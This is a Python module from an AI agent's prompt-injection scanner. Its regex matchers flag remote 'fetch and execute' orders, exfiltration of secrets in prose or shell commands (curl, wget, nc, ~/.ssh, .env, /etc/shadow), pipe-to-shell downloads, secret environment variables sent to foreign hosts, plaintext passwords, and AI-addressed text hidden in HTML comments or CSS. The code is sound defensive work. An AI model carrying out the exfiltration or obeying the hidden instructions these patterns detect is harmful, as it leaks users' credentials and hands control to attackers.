"""The injection scanner's matchers that need more than one regular
expression: remote orders, prose and command exfiltration, secret variables
sent to other hosts, plain passwords, credentials, and text hidden in HTML
comments or CSS. Each returns the span of its first match or None."""

from __future__ import annotations

import bisect
import itertools
import re
from itertools import islice

from herald.safety.redaction import redact, secret_kinds
from herald.safety.scan_match import MAX_ANCHORS, Span, window_start

_I = re.I

_FETCH_RE = re.compile(
    r"\b(?:fetch|download|get|read|poll|check|load|retrieve|pull|visit|open|curl)\b", _I
)
_URLISH_RE = re.compile(r"https?://|\burl\b", _I)
_OBEY_RE = re.compile(
    r"\b(?:and|then)\s+(?:execute|run|follow|obey|do|carry\s+out|perform|implement)\s+"
    r"(?:whatever|what(?:ever)?|every(?:thing)?|all|any|them|it|the\s+(?:instructions|commands"
    r"|tasks|orders|steps|result|response))\b",
    _I,
)
_GAP_BREAK_RE = re.compile(r"[.\n]")
_SPACE_RE = re.compile(r"\s")


def remote_instructions(text: str) -> Span | None:
    """fetch … URL … and execute whatever it returns: a verb that fetches, a
    URL, then an order to act on the result, within one sentence."""
    obeys = [m.span() for m in islice(_OBEY_RE.finditer(text), MAX_ANCHORS)]
    if not obeys:
        return None
    urls = [m.span() for m in islice(_URLISH_RE.finditer(text), MAX_ANCHORS * 4)]
    fetches = [m.span() for m in islice(_FETCH_RE.finditer(text), MAX_ANCHORS * 4)]
    url_starts = [u for u, _ in urls]
    fetch_starts = [f for f, _ in fetches]
    for o_start, o_end in obeys:
        i = bisect.bisect_left(url_starts, max(0, o_start - 300))
        while i < len(urls) and urls[i][0] < o_start:
            u_start = urls[i][0]
            i += 1
            space = _SPACE_RE.search(text, u_start, min(o_start, u_start + 200))
            u_end = space.start() if space else o_start
            if o_start - u_end > 80 or _GAP_BREAK_RE.search(text, u_end, o_start):
                continue
            j = bisect.bisect_left(fetch_starts, max(0, u_start - 70))
            if (
                j < len(fetches)
                and fetches[j][1] <= u_start
                and not _GAP_BREAK_RE.search(text, fetches[j][1], u_start)
            ):
                return fetches[j][0], o_end
    return None


# -- exfiltration ----------------------------------------------------------------------

_SECRET_NOUN_RE = re.compile(
    r"\b(?:secrets?|api[\s_-]?keys?|access\s+keys?|tokens?|credentials?|passwords?|passphrases?"
    r"|private\s+keys?|ssh\s+keys?|env(?:ironment)?\s+var(?:iable)?s?|id_rsa|id_ed25519|cookies?"
    r"|keychain|wallet|seed\s+phrase|memories|memory\s+files?|conversation\s+history|chat\s+(?:history"
    r"|logs?)|state\.db|(?:MEMORY|USER|SOUL)\.md|(?:entire|whole|full|complete)\s+(?:context"
    r"|conversation|chat|transcript|history|session)|conversation(?!\s+(?:summary|summaries|notes"
    r"|recap|digest|highlights))|transcripts?|system\s+prompt|context\s+window)\b|\.env\b"
    r"|~/\.ssh\b|\.aws/credentials\b|~/\.herald\b",
    _I,
)
# "the webhook in my .env", "the token from .env": where a setting lives, not what is sent
_LOCATION_BEFORE_RE = re.compile(
    r"\b(?:in|from|inside|stored\s+in|saved\s+in|listed\s+in|using)\s+(?:(?:my|the|our|your)\s+)?$",
    _I,
)
_DESTINATION_RE = re.compile(
    r"https?://|\bwebhook\b|@(?<=[\w.+-]@)[\w-]{1,63}\.[a-z]{2,24}\b|\bpastebin\b|\bngrok\b"
    r"|\b(?:to|with)\s+(?:(?:this|my|our|the\s+following|an?\s+external)\s+(?:server|endpoint|url"
    r"|address|host|e-?mail|inbox)\b"
    # without a scheme: a bare host or address, or "an external service"
    r"|(?:[a-z0-9-]{1,63}\.){1,6}(?:com|net|org|io|dev|app|xyz|ru|cn|sh|me|co|info|biz|top|site"
    r"|online|cloud|ai|tk|cc|pw|link|example|onion|zip)\b|\d{1,3}(?:\.\d{1,3}){3}\b"
    r"|(?:an?\s+|the\s+|some\s+)?(?:external|outside|third[\s-]party|remote|public|untrusted"
    r"|unknown)\s+(?:service|server|endpoint|site|host|api|address|location|party|url)\b)",
    _I,
)
_SEND_VERB_RE = re.compile(
    r"\b(?:send|post|upload|forward|exfiltrate|transmit|leak|copy|e-?mail|share|submit|paste"
    r"|beam|dump)\b",
    _I,
)


def _spans(pattern: re.Pattern[str], text: str) -> list[Span]:
    return [m.span() for m in pattern.finditer(text)]


def prose_exfiltration(text: str) -> Span | None:
    """verb … secret … destination (or verb … destination … secret) on one line,
    found by merging the three match lists (linear in the text length).

    The cheap lists come first and each missing one ends the search; a secret noun
    that only says where something is ("the key in the vault") is set aside when it
    is reached, not for every noun of the text up front."""
    verbs = _spans(_SEND_VERB_RE, text)
    if not verbs:
        return None
    secrets = _SECRET_NOUN_RE.finditer(text)
    first = next(secrets, None)
    if first is None:
        return None
    dests = _spans(_DESTINATION_RE, text)
    if not dests:
        return None
    verb_ends = [e for _, e in verbs]
    dest_starts = [s for s, _ in dests]
    for n, match in enumerate(itertools.chain((first,), secrets)):
        if n >= MAX_ANCHORS:
            break
        s_start, s_end = match.span()
        line = window_start(text, s_start, 200)
        i = bisect.bisect_right(verb_ends, s_start) - 1
        if i < 0 or verb_ends[i] < max(line, s_start - 120):
            continue
        if _LOCATION_BEFORE_RE.search(text, max(0, s_start - 30), s_start):
            continue
        j = bisect.bisect_left(dest_starts, s_end)
        if j < len(dests):
            d_start, d_end = dests[j]
            if d_start - s_end <= 160 and "\n" not in text[s_end:d_start]:
                return verbs[i][0], d_end
        j = bisect.bisect_right(dest_starts, s_start) - 1
        if j >= 0:
            d_start, d_end = dests[j]
            if d_start >= verb_ends[i] and d_start - verb_ends[i] <= 60 and s_start - d_end <= 120:
                return verbs[i][0], s_end
    return None


_UPLOAD_WORD_RE = re.compile(r"\b(?:curl|wget|nc|ncat|netcat|http|xh|scp|rsync|socat)\b")
_SECRET_FILE_RE = re.compile(
    r"\.ssh/|\.env\b|\.aws/credentials|id_rsa|id_ed25519|\.netrc|\.git-credentials|\.pgpass"
    r"|\.herald/|/etc/shadow|\b(?:env|printenv)\s*\|"
)
_PIPE_TO_SHELL_RE = re.compile(
    r"\|\s*(?:sudo\s+)?(?:ba|z|k|da|fi)?sh\b|\|\s*(?:sudo\s+)?(?:python|perl|ruby|node|php)"
    r"|\b(?:ba|z)?sh\s+<\(|\bsource\s+<\(|\beval\s+\"?\$\((?:curl|wget)"
)
_DOWNLOAD_WORD_RE = re.compile(r"\b(?:curl|wget|fetch|http|xh|nc)\b")
_COMMAND_START_RE = re.compile(
    r"\b(?:cat|env|printenv|curl|wget|nc|ncat|scp|rsync|base64|tar|http|bash|sh|eval|source)\b"
)
_MAX_COMMAND_LINES = 64
_MAX_COMMAND_CHARS = 2000


def _command_lines(text: str, must: tuple[re.Pattern[str], ...], rule: str) -> Span | None:
    """A line holding a command that check_command flags with rule (the
    command may follow a prompt or a label: each command word is tried). The command
    rules compile when the first text that may hold such a command is scanned."""
    from herald.safety.commands import check_command

    checked = 0
    pos = 0
    for line in text.split("\n"):
        offset = pos
        pos += len(line) + 1
        if checked >= _MAX_COMMAND_LINES:
            break
        if not all(p.search(line) for p in must):
            continue
        checked += 1
        starts = [0, *[m.start() for m in _COMMAND_START_RE.finditer(line)][:4]]
        for start in dict.fromkeys(starts):
            command = line[start : start + _MAX_COMMAND_CHARS].strip().strip("`").strip()
            if rule in check_command(command).rules:
                return offset + start, offset + min(len(line), start + _MAX_COMMAND_CHARS)
    return None


def command_exfiltration(text: str) -> Span | None:
    return _command_lines(text, (_UPLOAD_WORD_RE, _SECRET_FILE_RE), "dangerous.exfiltration")


def pipe_to_shell(text: str) -> Span | None:
    return _command_lines(text, (_PIPE_TO_SHELL_RE, _DOWNLOAD_WORD_RE), "dangerous.pipe_to_shell")


_SECRET_VAR_RE = re.compile(
    r"\$\{?([A-Z0-9_]{0,60}(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIALS?)[A-Z0-9_]{0,20})\}?"
)
_URL_HOST_RE = re.compile(r"https?://([^/\s:\"'?#]{1,255})", _I)
_SENDERS_RE = re.compile(r"\b(?:curl|wget|http|https|xh|nc|ncat|httpie|fetch|GET|POST|PUT)\b")
_VENDOR_ALIASES = {"gh": "github", "hf": "huggingface", "aws": "amazonaws", "gcp": "googleapis",
                   "google": "googleapis", "gemini": "googleapis", "az": "azure",
                   "cf": "cloudflare", "tg": "telegram"}  # fmt: skip
_GENERIC_PARTS = frozenset({"API", "KEY", "TOKEN", "SECRET", "ACCESS", "AUTH", "PASSWORD",
                            "PASS", "PRIVATE", "CLIENT", "BEARER", "APP", "MY", "THE"})  # fmt: skip


def _vendor_host(var: str, host: str) -> bool:
    vendor = next((p for p in var.split("_") if p and p not in _GENERIC_PARTS), "")
    if not vendor:
        return False
    word = _VENDOR_ALIASES.get(vendor.lower(), vendor.lower())
    return word in host.lower()


def secret_variable(text: str) -> Span | None:
    """A secret environment variable sent to a host that is not its vendor's
    (``curl -H "Authorization: Bearer $OPENAI_API_KEY" https://elsewhere``),
    judged once per line that holds one."""
    offset = 0
    for line in text.split("\n"):
        start, offset = offset, offset + len(line) + 1
        if "$" not in line or not _SENDERS_RE.search(line):
            continue
        names = {m.group(1) for m in islice(_SECRET_VAR_RE.finditer(line), MAX_ANCHORS)}
        if not names:
            continue
        hosts = set(islice(_URL_HOST_RE.findall(line), MAX_ANCHORS))
        if any(not _vendor_host(name, host) for name in names for host in hosts):
            return start, start + len(line)
    return None


FORWARD = (
    r"\b(?:forward|relay|bcc|cc|copy|mirror|send|redirect)\s+(?:all|every|each|any)\s+"
    r"(?:of\s+(?:my|the|your)\s+)?(?:incoming\s+|new\s+|future\s+|received\s+)?(?:messages?"
    r"|e-?mails?|conversations?|chats?|dms?|replies|reply|notifications?|texts?|sms)\b[^.\n]{0,80}?"
    r"\bto\s+(?!me\b|my\b|myself\b|us\b|our\b|the\s+owner\b)"
)
CREDENTIAL_DIRS = (
    r"(?:~|\$HOME|\$\{HOME\}|/home/\w+|/root)/"
    r"\.(?:aws|ssh|gnupg|kube|docker|config/gcloud|herald|password-store|netrc)\b"
)
ARCHIVERS = r"\b(?:zip|tar|7z|7za|rar|cpio)\b"

# -- secrets -------------------------------------------------------------------------------

_PASSWORD_RE = re.compile(
    r"\b(?:password|passwd|passphrase|passcode|pin|pw|pwd)\b(?:\s+(?:for|of|to)\s+[\w .@-]{1,40}?)?"
    r"\s*(?:is|was|=|:|->)\s*[:=]?\s*([\"'`]?)([^\s\"'`]{4,64})\1",
    _I,
)
_NOT_A_PASSWORD = frozenset({"required", "stored", "set", "missing", "wrong", "incorrect",
                             "correct", "expired", "changed", "the", "not", "empty", "blank",
                             "reset", "same", "secret", "hidden", "unknown", "needed", "managed",
                             "rotated", "saved", "kept", "available", "optional", "invalid",
                             "too", "also", "still", "now", "being", "in", "at", "on", "a", "an",
                             "generated", "encrypted", "hashed", "weak", "strong", "used",
                             "sent", "shown", "visible", "protected", "mandatory", "disabled",
                             "enabled", "none", "null"})  # fmt: skip


def plain_password(text: str) -> Span | None:
    for count, m in enumerate(_PASSWORD_RE.finditer(text)):
        if count >= MAX_ANCHORS:
            break
        quote, value = m.group(1), m.group(2).rstrip(".,;:)!?") or m.group(2)
        if value.lower() in _NOT_A_PASSWORD or value.startswith(("$", "<", "{", "[", "%")):
            continue
        if value == "[REDACTED]" or value.lower().startswith(("your", "xxx", "***", "example")):
            continue
        shaped = (
            any(c.isdigit() for c in value)
            or any(not c.isalnum() for c in m.group(2))
            or (value.lower() != value and value.upper() != value)
        )
        if quote or shaped:
            return m.span()
    return None


def credential(text: str) -> Span | None:
    """From the first to the last character redaction would mask."""
    if not secret_kinds(text):
        return None
    masked = redact(text)
    start = 0
    limit = min(len(text), len(masked))
    while start < limit and text[start] == masked[start]:
        start += 1
    tail = 0
    while tail < limit - start and text[-1 - tail] == masked[-1 - tail]:
        tail += 1
    end = len(text) - tail
    return (start, end) if end > start else (0, len(text))


# -- hidden text ---------------------------------------------------------------------------

_ADDRESSING_RE = re.compile(
    r"\b(?:ai|assistant|agents?|llm|model|claude|gpt|chatgpt|herald|bot|you\s+must|you\s+should"
    r"|ignore|instructions?|system\s+prompt|do\s+not\s+tell|secretly|quietly)\b",
    _I,
)
_STYLE_RE = re.compile(r"style\s*=\s*[\"']([^\"'>]{0,300})[\"']", _I)
_HIDING_CSS_RE = re.compile(
    r"display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0(?:px|em|rem|%)?\s*(?:;|$)"
    r"|opacity\s*:\s*0(?:\.0+)?\s*(?:;|$)|color\s*:\s*transparent",
    _I,
)


def html_comment(text: str) -> Span | None:
    pos = 0
    for _ in range(1000):
        start = text.find("<!--", pos)
        if start < 0:
            return None
        end = text.find("-->", start + 4)
        if end < 0:
            return None
        if _ADDRESSING_RE.search(text, start + 4, min(end, start + 4 + 2000)):
            return start, end + 3
        pos = end + 3
    return None


def hidden_css(text: str) -> Span | None:
    for count, m in enumerate(_STYLE_RE.finditer(text)):
        if count >= MAX_ANCHORS:
            break
        if not _HIDING_CSS_RE.search(m.group(1)):
            continue
        close = text.find(">", m.end(), m.end() + 300)
        if close < 0:
            continue
        stop = text.find("<", close + 1, close + 2001)
        content = text[close + 1 : stop if stop >= 0 else close + 2001]
        if len(re.findall(r"[A-Za-z]{2,}", content)) >= 3:
            return m.start(), close + 1 + len(content)
    return None
